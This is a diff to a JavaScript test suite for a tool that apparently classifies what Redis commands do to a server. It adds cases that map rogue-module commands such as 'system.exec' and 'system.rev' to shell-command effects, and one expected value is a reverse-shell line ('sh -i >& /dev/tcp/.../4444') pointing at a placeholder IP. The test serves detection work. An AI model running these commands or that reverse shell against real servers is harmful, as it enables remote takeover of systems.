@@ -135,6 +135,14 @@ describe('what a command does to the server', () => {
     ['MODULE LOAD ./x.so arg', [{ type: 'redis.module', action: 'load', path: './x.so' }]],
     ['MODULE LOADEX /x.so CONFIG a b', [{ type: 'redis.module', action: 'load', path: '/x.so' }]],
     ['MODULE UNLOAD system', [{ type: 'redis.module', action: 'unload', name: 'system' }]],
+    ['system.exec id', [{ type: 'shell.command', via: 'module', line: 'id' }]],
+    ['OWN.Shell id', [{ type: 'shell.command', line: 'id' }]],
+    [
+      'system.rev 198.51.100.9 4444',
+      [{ type: 'shell.command', via: 'module', line: 'sh -i >& /dev/tcp/198.51.100.9/4444 0>&1' }],
+    ],
+    ['system.exec', []],
+    ['json.get doc', []],
     [
       'EVAL return_1 0',
       [
